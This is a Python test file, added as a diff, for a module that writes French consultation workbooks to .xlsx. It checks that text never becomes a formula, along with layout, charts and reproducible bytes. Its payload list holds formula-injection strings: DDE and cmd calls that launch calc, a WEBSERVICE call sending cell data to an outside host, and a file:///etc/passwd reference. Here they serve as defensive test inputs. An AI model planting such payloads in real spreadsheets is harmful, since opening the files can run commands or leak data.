@@ -1,0 +1,645 @@
+"""What people open is what we meant: a text stays a text, and the same data the same bytes."""
+
+# ruff: noqa: DTZ001 - cells of spreadsheets have no time zone
+
+from __future__ import annotations
+
+import os
+import re
+import stat
+import subprocess
+import sys
+import tempfile
+import tracemalloc
+from dataclasses import replace
+from datetime import UTC, date, datetime, time
+from decimal import Decimal
+from itertools import accumulate, pairwise, product
+from pathlib import Path
+from zipfile import ZipFile
+
+import openpyxl
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from consultation.workbooks import (
+    MAX_CELL_UNITS,
+    Chart,
+    Column,
+    Heading,
+    KeyValueRows,
+    Kind,
+    Page,
+    Paragraph,
+    Sheet,
+    Table,
+    Workbook,
+    fits_a_cell,
+    readable,
+    write_workbook,
+)
+from consultation.workbooks.blocks import GAP, Layout, Sizes, lay_out
+from tests.cases.libreoffice import flat_xml_of, page_count, sheets_of
+from tests.cases.places import ROOT
+from tests.cases.workbook_example import DATE, example, participation, questions
+
+HEADER_ROW = 4
+"""Of a sheet with a way back and one sentence: title, way back, sentence, header."""
+
+
+def workbook_of(*sheets: Sheet | Page) -> Workbook:
+    return Workbook("Essai", "Essai", "faire-masse", DATE, sheets)
+
+
+def sheet_of(rows, *kinds: Kind, title: str = "Feuille", **table) -> Sheet:
+    columns = tuple(Column(f"Colonne {n}", kind) for n, kind in enumerate(kinds))
+    return Sheet(title, (), Table("table_1", columns, rows, **table))
+
+
+def written(folder: Path, *sheets: Sheet | Page) -> Path:
+    path = folder / "classeur.xlsx"
+    write_workbook(path, workbook_of(*sheets))
+    return path
+
+
+def column_read(path: Path, first_row: int = 3) -> list[object]:
+    """The first column of the first sheet, below a title and a header."""
+    sheet = openpyxl.load_workbook(path).worksheets[0]
+    return [row[0] for row in sheet.iter_rows(min_row=first_row, max_col=1, values_only=True)]
+
+
+# --- texts -----------------------------------------------------------------------------------
+
+BODIES = (
+    "1+1",
+    "SUM(A1:A9)",
+    'HYPERLINK("http://example.org","clic")',
+    'WEBSERVICE("http://example.org/"&A1)',
+    'IMPORTXML("http://example.org","//a")',
+    "cmd|' /C calc'!A0",
+    'DDE("cmd";"/C calc";"x")',
+    "A1",
+    "Feuille!A1",
+    "'file:///etc/passwd'#$x.A1",
+    "#REF!",
+    "0123",
+    "é",
+    "",
+    "_x000D_1",
+)
+STARTS = (
+    "==",
+    "=+",
+    "=-",
+    "-=",
+    "@=",
+    "\u200b=",
+    "\u00a0=",
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t=",
+    "\r=",
+    "\n=",
+    " =",
+    "'=",
+    '"=',
+    "{=",
+    "＝",
+    "＋",
+    "－",
+    "＠",
+)
+WHOLE = (
+    *("#N/A", "#REF!", "#DIV/0!", "#NAME?", "#NULL!", "#NUM!", "#VALUE!"),
+    *("http://example.org", "mailto:a@example.org", "file:///etc/passwd", "\\\\serveur\\partage"),
+    *("TRUE", "VRAI", "1E5", "0012", "12/03/2022", "=", "==", "'", "''", "-", "--", "+33612345678"),
+    *("_x003D_1+1", "a_x000D_b", "_x005F_x000D_", "_x_x0041_", "x005F_", "_xZZZZ_"),
+)
+PAYLOADS = tuple(dict.fromkeys([*WHOLE, *(a + b for a, b in product(STARTS, BODIES))]))
+# Only what the format cannot hold at all, and the ends of lines, may come back otherwise.
+any_character = st.characters() | st.sampled_from(
+    "\x00\t\n\x0b\r\x1f\x7f\x85\u2028\ud800\udfff\ufffe\uffff🦊"
+)
+any_text = st.text(any_character, max_size=60)
+escape_like_text = st.lists(
+    st.sampled_from(["_", "x", "_x", "005F", "000d", "0041_", "_x000D_", "é", "\n", " "]),
+    max_size=12,
+).map("".join)
+
+
+def test_there_are_300_payloads():
+    assert len(PAYLOADS) >= 300
+
+
+def test_payloads_in_cells_headers_sentences_and_titles_are_texts(tmp_path):
+    headers = [
+        Column(readable(p).replace("\n", " ") + f" {n}", Kind.TEXT) for n, p in enumerate(PAYLOADS)
+    ]
+    wide = Sheet("=1+1", PAYLOADS, Table("larges", tuple(headers), [PAYLOADS]))
+    page = Page(
+        "@SUM(1)",
+        (
+            *map(Heading, PAYLOADS),
+            *map(Paragraph, PAYLOADS),
+            KeyValueRows(tuple((p, p, None) for p in PAYLOADS), headings=("=1", "+1", "@1")),
+        ),
+    )
+    path = written(tmp_path, wide, page)
+
+    book = openpyxl.load_workbook(path)
+    assert book.sheetnames == ["=1+1", "@SUM(1)"]
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
+    last = list(book.worksheets[0].iter_rows(values_only=True))[-1]
+    assert list(last) == [readable(payload) for payload in PAYLOADS]
+
+
+def test_payloads_in_rows_come_back_from_openpyxl(tmp_path):
+    path = written(tmp_path, sheet_of([(payload,) for payload in PAYLOADS], Kind.TEXT))
+
+    assert column_read(path) == [readable(payload) for payload in PAYLOADS]
+
+
+def test_nothing_links_out_of_the_workbook(tmp_path):
+    path = tmp_path / "classeur.xlsx"
+    write_workbook(path, example())
+
+    with ZipFile(path) as archive:
+        parts = {name: archive.read(name).decode() for name in archive.namelist()}
+    assert not [name for name, part in parts.items() if 'TargetMode="External"' in part]
+    assert not [name for name, part in parts.items() if "<f>" in part and "/charts/" not in name]
+    locations = re.findall(r'<hyperlink [^>]*location="([^"]*)"', "".join(parts.values()))
+    assert set(locations) == {"'Lisez-moi'!A1", "'Questions'!A1", "'Textes'!A1"}
+
+
+@pytest.mark.parametrize("payload", ["=1", "+1", "-1", "@1", "\t1", "'1"])
+def test_editing_a_cell_does_not_turn_its_text_into_a_formula(tmp_path, payload):
+    path = written(tmp_path, sheet_of([(payload,), ("1",)], Kind.TEXT))
+
+    sheet = openpyxl.load_workbook(path).active
+    assert [sheet.cell(row, 1).quotePrefix for row in (3, 4)] == [True, False]
+
+
+@given(any_text)
+def test_readable_keeps_all_that_can_be_kept(text):
+    cleaned = readable(text)
+
+    assert readable(cleaned) == cleaned
+    assert len(cleaned) == len(text.replace("\r\n", "\n"))
+    assert not re.search("[\x00-\x08\x0b-\x1f\ud800-\udfff\ufffe\uffff]", cleaned)
+    kept = re.sub("[\x00-\x08\x0b-\x1f\ud800-\udfff\ufffe\uffff]", "", text.replace("\r", "\n"))
+    if "\r\n" not in text and "\ufffd" not in text:
+        assert cleaned.replace("\ufffd", "") == kept
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(texts=st.lists(any_text | escape_like_text, min_size=1, max_size=20))
+def test_any_text_comes_back_as_readable_says(texts):
+    with tempfile.TemporaryDirectory() as folder:
+        path = written(Path(folder), sheet_of([(text,) for text in texts], Kind.TEXT))
+        read = column_read(path)
+
+    expected = [readable(text) or None for text in texts]
+    assert read + [None] * (len(expected) - len(read)) == expected
+
+
+def test_a_text_of_the_greatest_length_is_kept_whole_and_a_longer_one_refused(tmp_path):
+    longest = "é" * (MAX_CELL_UNITS - 2) + "🦊"
+    assert fits_a_cell(longest)
+    assert not fits_a_cell(longest + "é")
+
+    path = written(tmp_path, sheet_of([(longest,)], Kind.TEXT))
+    assert column_read(path) == [longest]
+
+    with pytest.raises(ValueError, match="Feuille, row 1, 'Colonne 0'") as caught:
+        written(tmp_path, sheet_of([(longest + "secret",)], Kind.TEXT))
+    assert "secret" not in str(caught.value)
+    assert column_read(path) == [longest]
+
+
+# --- numbers and dates -----------------------------------------------------------------------
+
+
+def test_values_are_stored_as_what_they_are(tmp_path):
+    row = (3, Decimal("2.5"), 0.123, date(2022, 3, 11), datetime(2022, 3, 11, 23, 59), time(14, 5))
+    kinds = (Kind.INTEGER, Kind.DECIMAL, Kind.SHARE, Kind.DATE, Kind.DATETIME, Kind.TIME)
+    path = written(tmp_path, sheet_of([row, (None,) * 6], *kinds))
+
+    cells = openpyxl.load_workbook(path).active[3]
+    assert [cell.value for cell in cells] == [
+        3,
+        2.5,
+        0.123,
+        datetime(2022, 3, 11),
+        datetime(2022, 3, 11, 23, 59),
+        time(14, 5),
+    ]
+    assert [cell.data_type for cell in cells] == ["n", "n", "n", "d", "d", "d"]
+
+
+@pytest.mark.parametrize(
+    ("kind", "value", "shown"),
+    [
+        (Kind.DATE, date(202, 3, 1), "01/03/0202"),
+        (Kind.DATE, date(1900, 2, 28), "28/02/1900"),
+        (Kind.DATETIME, datetime(1899, 12, 31, 8, 5), "31/12/1899 08:05"),
+        (Kind.INTEGER, 3.0, 3),
+        (Kind.INTEGER, 2**53, 2**53),
+        (Kind.TEXT, "", None),
+        (Kind.LINK, "", None),
+    ],
+)
+def test_odd_values_are_kept(tmp_path, kind, value, shown):
+    assert column_read(written(tmp_path, sheet_of([(value,), (None,)], kind)))[0] == shown
+
+
+@pytest.mark.parametrize(
+    ("kind", "value"),
+    [
+        (Kind.TEXT, 3),
+        (Kind.TEXT, b"x"),
+        (Kind.LINK, "Ailleurs"),
+        (Kind.INTEGER, 2.5),
+        (Kind.INTEGER, True),
+        (Kind.INTEGER, "3"),
+        (Kind.INTEGER, 2**53 + 1),
+        (Kind.DECIMAL, float("nan")),
+        (Kind.SHARE, float("inf")),
+        (Kind.DATE, datetime(2022, 1, 1)),
+        (Kind.DATETIME, datetime(2022, 1, 1, tzinfo=UTC)),
+        (Kind.DATETIME, date(2022, 1, 1)),
+        (Kind.TIME, "12:00"),
+    ],
+)
+def test_a_value_that_would_change_is_refused_by_place_not_by_content(tmp_path, kind, value):
+    with pytest.raises(ValueError, match="Feuille, row 2, 'Colonne 0'"):
+        written(tmp_path, sheet_of([(None,), (value,)], kind))
+    assert list(tmp_path.iterdir()) == []
+
+
+# --- names -----------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "title",
+    ["", "a" * 32, "a/b", "a:b", "[a]", "a?", "a*", "'a", "a'", "History", "a\nb", "\ud800"],
+)
+def test_a_sheet_title_that_excel_refuses_is_refused(tmp_path, title):
+    with pytest.raises(ValueError, match="not a sheet title"):
+        written(tmp_path, sheet_of([], Kind.TEXT, title=title))
+
+
+@pytest.mark.parametrize("name", ["", "1a", "a b", "AB12", "r", "R1C1", "a-b"])
+def test_a_table_name_that_excel_refuses_is_refused(tmp_path, name):
+    table = Table(name, (Column("A", Kind.TEXT),), [])
+    with pytest.raises(ValueError, match="not a table name"):
+        written(tmp_path, Sheet("Feuille", (), table))
+
+
+def test_names_that_differ_by_case_only_are_refused(tmp_path):
+    columns = (Column("Part", Kind.SHARE), Column("part", Kind.SHARE))
+    with pytest.raises(ValueError, match="used twice"):
+        written(tmp_path, Sheet("Feuille", (), Table("parts", columns, [])))
+    with pytest.raises(ValueError, match="used twice"):
+        written(tmp_path, Page("Lisez-moi", ()), Page("LISEZ-MOI", ()))
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"label_column": "Absente"},
+        {"value_columns": ("Choix",)},
+        {"value_columns": ()},
+        {"first_row": 4, "last_row": 3},
+        {"last_row": 99},
+        {"alt_text": " "},
+    ],
+)
+def test_a_chart_of_what_is_not_there_is_refused(tmp_path, changes):
+    sheet = questions(1)
+    chart = replace(sheet.table.charts[0], **changes)
+    with pytest.raises(ValueError, match="chart"):
+        written(tmp_path, replace(sheet, table=replace(sheet.table, charts=(chart,))))
+
+
+def test_rows_are_counted(tmp_path):
+    with pytest.raises(ValueError, match="1 rows written of 2"):
+        written(tmp_path, sheet_of([("a",)], Kind.TEXT, row_count=2))
+    with pytest.raises(ValueError, match="2 values for 1 columns"):
+        written(tmp_path, sheet_of([("a", "b")], Kind.TEXT))
+
+
+# --- sheets ----------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def example_path(tmp_path_factory) -> Path:
+    path = tmp_path_factory.mktemp("classeur") / "exemple.xlsx"
+    write_workbook(path, example())
+    return path
+
+
+def test_a_data_sheet_has_one_header_that_stays_in_sight_and_is_repeated(example_path):
+    sheet = openpyxl.load_workbook(example_path)["Textes"]
+
+    assert sheet["A1"].value == "Textes"
+    assert sheet["A2"].value == "← Lisez-moi"
+    assert sheet["A2"].hyperlink.location == "'Lisez-moi'!A1"
+    table = sheet.tables["textes"]
+    assert table.ref == table.autoFilter.ref == f"A{HEADER_ROW}:F{HEADER_ROW + 3}"
+    assert table.column_names == [cell.value for cell in sheet[HEADER_ROW]]
+    assert sheet.freeze_panes == f"A{HEADER_ROW + 1}"
+    assert sheet.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
+    assert not sheet.merged_cells.ranges
+
+
+def test_every_sheet_prints_on_a4_with_its_title_and_page_number(example_path):
+    for sheet in openpyxl.load_workbook(example_path):
+        assert sheet.page_setup.paperSize == 9
+        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
+        assert sheet.sheet_properties.pageSetUpPr.fitToPage
+        assert sheet.oddHeader.left.text == sheet.title
+        assert sheet.oddFooter.left.text == "Consultation && essai"
+        assert sheet.oddFooter.right.text == "page &P / &N"
+        assert sheet.print_area
+
+
+def test_properties_say_what_the_workbook_is_and_when_its_data_are_from(example_path):
+    properties = openpyxl.load_workbook(example_path).properties
+
+    assert (properties.title, properties.subject) == ("Consultation & essai", "Synthèse interne")
+    assert (properties.creator, properties.language) == ("faire-masse", "fr-FR")
+    assert properties.created == properties.modified == DATE
+
+
+def test_an_empty_table_says_so(example_path):
+    sheet = openpyxl.load_workbook(example_path)["Rejets"]
+
+    assert sheet.cell(HEADER_ROW + 1, 1).value == "Aucune ligne."
+    assert not sheet.tables
+
+
+def test_a_header_that_looks_like_an_escape_is_the_name_of_its_column(tmp_path):
+    table = Table(
+        "table_1", (Column("a_x0041_", Kind.TEXT), Column("b_x", Kind.TEXT)), [("1", "2")]
+    )
+    path = written(tmp_path, Sheet("Feuille", (), table))
+
+    assert [cell.value for cell in openpyxl.load_workbook(path).active[2]] == ["a_x0041_", "b_x"]
+    with ZipFile(path) as archive:
+        assert 'name="a_x005F_x0041_"' in archive.read("xl/tables/table1.xml").decode()
+
+
+def test_charts_have_titles_and_alternative_texts(example_path):
+    with ZipFile(example_path) as archive:
+        first = archive.read("xl/drawings/drawing1.xml").decode()
+        second = archive.read("xl/drawings/drawing2.xml").decode()
+
+    assert first.count(" descr=") == 6
+    assert 'name="Usage 0" descr=\'Barres de « Usage 0 » &amp; "parts"\'' in first
+    assert second.index('descr="Colonnes et ligne."') < second.index('descr="Ligne."')
+
+
+def test_bars_read_from_the_top_with_axes_values_and_no_needless_legend(example_path):
+    with ZipFile(example_path) as archive:
+        bars = archive.read("xl/charts/chart1.xml").decode()
+        columns = archive.read("xl/charts/chart7.xml").decode()
+
+    assert '<barDir val="bar"' in bars
+    assert '<orientation val="maxMin"' in bars
+    assert '<showVal val="1"' in bars
+    assert "<legend>" not in bars
+    assert '<delete val="1"' not in bars
+    assert "<f>'Questions'!$D$7:$D$11</f>" in bars
+    assert '<barDir val="col"' in columns
+    assert "<lineChart>" in columns
+    assert '<crosses val="max"' in columns
+    assert '<legendPos val="b"' in columns
+
+
+def test_a_page_holds_texts_figures_and_links(example_path):
+    sheet = openpyxl.load_workbook(example_path)["Lisez-moi"]
+
+    rows = [row for row in sheet.iter_rows(values_only=True)]
+    assert rows[0] == ("Lisez-moi", None, None)
+    assert rows[2] == ("Ce qui vous reste à faire", "À traiter", "Feuille")
+    assert rows[3:7] == [
+        ("Réponses identiques", "9 en trop", "Textes"),
+        ("Textes à relire", 292, "Textes"),
+        ("Pièces jointes à récupérer", 6, None),
+        ("Part relue", None, None),
+    ]
+    assert sheet["C4"].hyperlink.location == "'Textes'!A1"
+    assert rows[8][0] == "=1+1 n'est pas une formule.\nDeuxième ligne."
+
+
+def test_a_page_that_cannot_be_written_says_which(tmp_path):
+    with pytest.raises(ValueError, match="Lisez-moi: a link to a sheet that is not there"):
+        written(tmp_path, Page("Lisez-moi", (KeyValueRows((("a", 1, "Ailleurs"),)),)))
+    with pytest.raises(ValueError, match="Lisez-moi: a text longer than"):
+        written(tmp_path, Page("Lisez-moi", (Paragraph("é" * (MAX_CELL_UNITS + 1)),)))
+
+
+def test_links_stand_for_sheet_titles_with_quotes(tmp_path):
+    sheet = sheet_of([("L'été & nous",)], Kind.LINK, title="L'été & nous")
+    path = written(tmp_path, sheet)
+
+    cell = openpyxl.load_workbook(path).active["A3"]
+    assert (cell.value, cell.hyperlink.location) == ("L'été & nous", "'L''été & nous'!A1")
+
+
+def test_a_text_too_high_for_a_row_does_not_overflow_the_page(example_path):
+    sheet = openpyxl.load_workbook(example_path)["Textes"]
+
+    assert sheet.row_dimensions[HEADER_ROW + 1].height is None
+    assert sheet.row_dimensions[HEADER_ROW + 3].height == 409
+
+
+# --- layout ----------------------------------------------------------------------------------
+
+chart_blocks = st.lists(
+    st.tuples(st.integers(1, 30), st.integers(0, 2), st.booleans()), min_size=1, max_size=8
+)
+
+
+def charts_and_heights(blocks, row_height):
+    charts, first = [], 0
+    for size, count, is_line in blocks:
+        shape = "line" if is_line else "bars"
+        for n in range(count):
+            chart = Chart(f"{first}-{n}", "a", first, first + size - 1, "L", ("V",), shape=shape)
+            charts.append(chart)
+        first += size
+    return charts, [row_height] * first
+
+
+def tops_of(layout: Layout) -> list[float]:
+    return [0.0, *accumulate(layout.heights)]
+
+
+@settings(deadline=None)
+@given(chart_blocks, st.floats(0.5, 4), st.floats(17, 40))
+def test_charts_never_overlap_nor_leave_their_block(blocks, row_height, page):
+    charts, natural = charts_and_heights(blocks, row_height)
+    layout = lay_out(charts, natural, Sizes(page, above=3.0, header=1.0))
+
+    tops = tops_of(layout)
+    spans = [(tops[p.row] + p.offset, tops[p.row] + p.offset + p.height) for p in layout.places]
+    assert len(spans) == len(charts)
+    assert all(above[1] <= below[0] for above, below in pairwise(spans))
+    assert all(layout.heights[n] >= natural[n] for n in range(len(natural)))
+    for place, (top, _) in zip(layout.places, spans, strict=True):
+        assert 0 <= place.offset <= layout.heights[place.row] + GAP or place.row == len(natural) - 1
+        assert top >= tops[place.chart.first_row]
+
+
+@settings(deadline=None)
+@given(chart_blocks, st.floats(0.5, 2), st.floats(20, 40))
+def test_no_chart_is_cut_between_two_pages(blocks, row_height, page):
+    charts, natural = charts_and_heights(blocks, row_height)
+    sizes = Sizes(page, above=3.0, header=1.0)
+    layout = lay_out(charts, natural, sizes)
+
+    tops, starts, used = tops_of(layout), [0], sizes.above
+    for row, height in enumerate(layout.heights):
+        if row in layout.page_starts or used + height > page:
+            starts.append(row)
+            used = sizes.header
+        used += height
+    page_tops = [tops[row] for row in starts]
+    for place in layout.places:
+        top = tops[place.row] + place.offset
+        cut = [p for p in page_tops if top + 0.01 < p < top + place.height - 0.01]
+        assert not cut
+
+
+# --- files -----------------------------------------------------------------------------------
+
+
+def test_the_same_workbook_gives_the_same_bytes_elsewhere(tmp_path):
+    files = []
+    for n, zone in enumerate(["Europe/Paris", "Pacific/Kiritimati"]):
+        folder = tmp_path / zone.replace("/", "-")
+        folder.mkdir()
+        files.append(folder / f"classeur-{n}.xlsx")
+        surroundings = {
+            **os.environ,
+            "TZ": zone,
+            "PYTHONHASHSEED": str(n),
+            "LC_ALL": ("C", "C.utf8")[n],
+            "PYTHONPATH": str(ROOT),
+        }
+        script = [sys.executable, "-m", "tests.cases.workbook_example", str(files[-1])]
+        subprocess.run(script, env=surroundings, cwd=folder, check=True)
+
+    assert files[0].read_bytes() == files[1].read_bytes()
+    with ZipFile(files[0]) as archive:
+        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
+
+
+def test_rows_on_their_way_are_in_a_private_folder_beside_the_target(tmp_path, monkeypatch):
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "nowhere"))
+    seen = []
+
+    def rows():
+        yield ("a",)
+        seen.extend(tmp_path.iterdir())
+        yield ("b",)
+
+    path = written(tmp_path, sheet_of(rows(), Kind.TEXT))
+
+    assert [stat.S_IMODE(folder.stat().st_mode) for folder in seen if folder.exists()] == []
+    assert len(seen) == 1
+    assert list(tmp_path.iterdir()) == [path]
+
+
+@pytest.mark.slow
+def test_rows_are_not_held_in_memory(tmp_path):
+    text = "Je refuse que mon corps devienne un code-barres. " * 40
+    rows = ((f"{n} {text}", n) for n in range(5_000))
+    tracemalloc.start()
+    written(tmp_path, sheet_of(rows, Kind.TEXT, Kind.INTEGER, row_count=5_000))
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+
+    assert peak < 6_000_000, "5,000 rows are 10 MB of text"
+
+
+# --- LibreOffice -----------------------------------------------------------------------------
+
+
+@pytest.mark.libreoffice
+def test_libreoffice_reads_every_payload_as_the_text_it_is(tmp_path):
+    rows = [(payload, f"fin {n}") for n, payload in enumerate(PAYLOADS)]
+    path = written(tmp_path, sheet_of(rows, Kind.TEXT, Kind.TEXT))
+
+    read = sheets_of(path, tmp_path)["Feuille"][2:]
+    assert [tuple(row) for row in read] == [(readable(a), b) for a, b in rows]
+    document = flat_xml_of(path, tmp_path)
+    assert "table:formula" not in document
+    assert 'xlink:href="' not in document
+
+
+@pytest.mark.libreoffice
+@settings(max_examples=4, deadline=None, suppress_health_check=list(HealthCheck))
+@given(texts=st.lists(any_text | escape_like_text, min_size=150, max_size=300))
+def test_libreoffice_reads_any_text_as_readable_says(texts):
+    with tempfile.TemporaryDirectory() as folder:
+        rows = [(text, "fin") for text in texts]
+        path = written(Path(folder), sheet_of(rows, Kind.TEXT, Kind.TEXT))
+        read = sheets_of(path, Path(folder))["Feuille"][2:]
+
+    assert [row[0] for row in read] == [readable(text) for text in texts]
+
+
+@pytest.mark.libreoffice
+@pytest.mark.parametrize("locale", ["fr-FR", "en-US"])
+def test_numbers_and_dates_show_the_french_way(example_path, tmp_path, locale):
+    rows = sheets_of(example_path, tmp_path, shown=True, locale=locale)["Textes"]
+
+    # Which no-break space separates thousands depends on LibreOffice's version.
+    assert [cell.replace("\u202f", "\u00a0") for cell in rows[HEADER_ROW][1:]] == [
+        "11/03/2022 23:59",
+        "14:05",
+        "12,3\u00a0%",
+        "1\u00a0234,5",
+        "Questions",
+    ]
+
+
+@pytest.mark.libreoffice
+def test_libreoffice_reads_every_cell_that_openpyxl_reads(example_path, tmp_path):
+    sheets = sheets_of(example_path, tmp_path)
+    book = openpyxl.load_workbook(example_path)
+
+    assert set(sheets) == set(book.sheetnames)
+    for title, rows in sheets.items():
+        for line, row in enumerate(rows, 1):
+            cells = [book[title].cell(line, column).value for column in range(1, len(row) + 1)]
+            texts = [cell if isinstance(cell, str) else None for cell in cells]
+            assert [
+                text for text, cell in zip(row, cells, strict=True) if isinstance(cell, str)
+            ] == [text for text in texts if text is not None]
+            assert all(
+                bool(text) == (cell is not None) for text, cell in zip(row, cells, strict=True)
+            )
+
+
+@pytest.mark.libreoffice
+def test_libreoffice_keeps_tables_charts_and_alternative_texts(example_path, tmp_path):
+    document = flat_xml_of(example_path, tmp_path)
+
+    assert document.count("<chart:chart ") == 8
+    assert document.count("<svg:desc>Barres de « Usage ") == 6
+    assert "<svg:desc>Colonnes et ligne.</svg:desc>" in document
+
+
+@pytest.mark.libreoffice
+@pytest.mark.parametrize(
+    ("sheet", "pages"), [(questions(2), 1), (questions(5), 2), (participation(12), 1)]
+)
+def test_sheets_with_charts_print_on_few_pages(tmp_path, sheet, pages):
+    assert page_count(written(tmp_path, sheet), tmp_path) == pages
